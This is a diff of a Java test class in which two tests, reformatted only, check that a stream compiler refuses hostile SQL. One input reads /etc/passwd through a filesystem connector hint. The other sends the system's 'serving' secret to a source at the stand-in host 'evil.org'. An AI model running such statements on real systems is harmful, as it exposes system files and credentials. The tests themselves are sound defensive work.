@@ -228,7 +228,8 @@ class DefinitionCompilerTest {
                 "1:48 NOT_ALLOWED: the hint OPTIONS would change what a stream reads behind the topology's back."
                         + " Leave it out; options of the new stream are given by WITH (…) before AS.",
                 new ShopSession()
-                        .refusal("CREATE STREAM x AS SELECT * FROM customers /*+ OPTIONS('connector'='filesystem', 'path'='/etc/passwd') */"));
+                        .refusal(
+                                "CREATE STREAM x AS SELECT * FROM customers /*+ OPTIONS('connector'='filesystem', 'path'='/etc/passwd') */"));
     }
 
     @Test
@@ -237,6 +238,7 @@ class DefinitionCompilerTest {
                 "1:87 NOT_ALLOWED: option 'password': the secret 'serving' is Kappa's own, for its database or its brokers."
                         + " Give the source an account and a secret of its own.",
                 new ShopSession()
-                        .refusal("CREATE SOURCE other WITH ('connector'='postgres-cdc','hostname'='evil.org','password'='${secret:serving}')"));
+                        .refusal(
+                                "CREATE SOURCE other WITH ('connector'='postgres-cdc','hostname'='evil.org','password'='${secret:serving}')"));
     }
 }
